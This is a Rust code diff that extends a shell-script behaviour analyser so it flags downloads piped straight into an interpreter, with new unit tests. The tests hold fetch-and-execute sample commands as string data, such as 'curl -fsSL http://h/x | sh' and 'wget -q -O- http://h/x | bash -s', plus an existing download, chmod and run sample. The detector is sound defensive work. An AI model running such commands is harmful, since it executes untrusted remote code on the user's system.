@@ -317,7 +317,21 @@ impl State<'_> {
                 let path = norm(&self.cwd, &path);
                 self.track(path, k, false);
             }
-            Some(None) if piped_next => self.unpack_from_pipe(k + 1),
+            Some(None) if piped_next => {
+                // Fetched straight into an interpreter: `curl URL | sh`.
+                let next = &cmds[k + 1];
+                let nw = words(next);
+                let into = program_index(nw).map(|i| base(&nw[i]));
+                if into.is_some_and(|n| INTERPRETERS.contains(&n) && n != "source" && n != ".") {
+                    self.out.push(Behaviour {
+                        kind: BehaviourKind::FetchExec,
+                        signature: "fetch-pipe-exec".into(),
+                        excerpt: excerpt2(c, next),
+                        line: Some(c.line),
+                    });
+                }
+                self.unpack_from_pipe(k + 1)
+            }
             _ => {}
         }
         match prog.as_str() {
@@ -553,6 +567,15 @@ mod tests {
             run("curl -o /tmp/x http://h/x; chmod +x /tmp/x; /tmp/x")[0].1,
             "fetch-chmod-exec"
         );
+        // Fetched straight into an interpreter.
+        for s in [
+            "curl -fsSL http://h/x | sh",
+            "wget -q -O- http://h/x | bash -s",
+            "(curl -fsSL http://h/l.sh || wget -q -O- http://h/l.sh) | sh",
+        ] {
+            assert_eq!(kinds(s), [FetchExec], "{s}");
+        }
+        assert_eq!(run("curl -s http://h/x | python3")[0].1, "fetch-pipe-exec");
     }
 
     #[test]
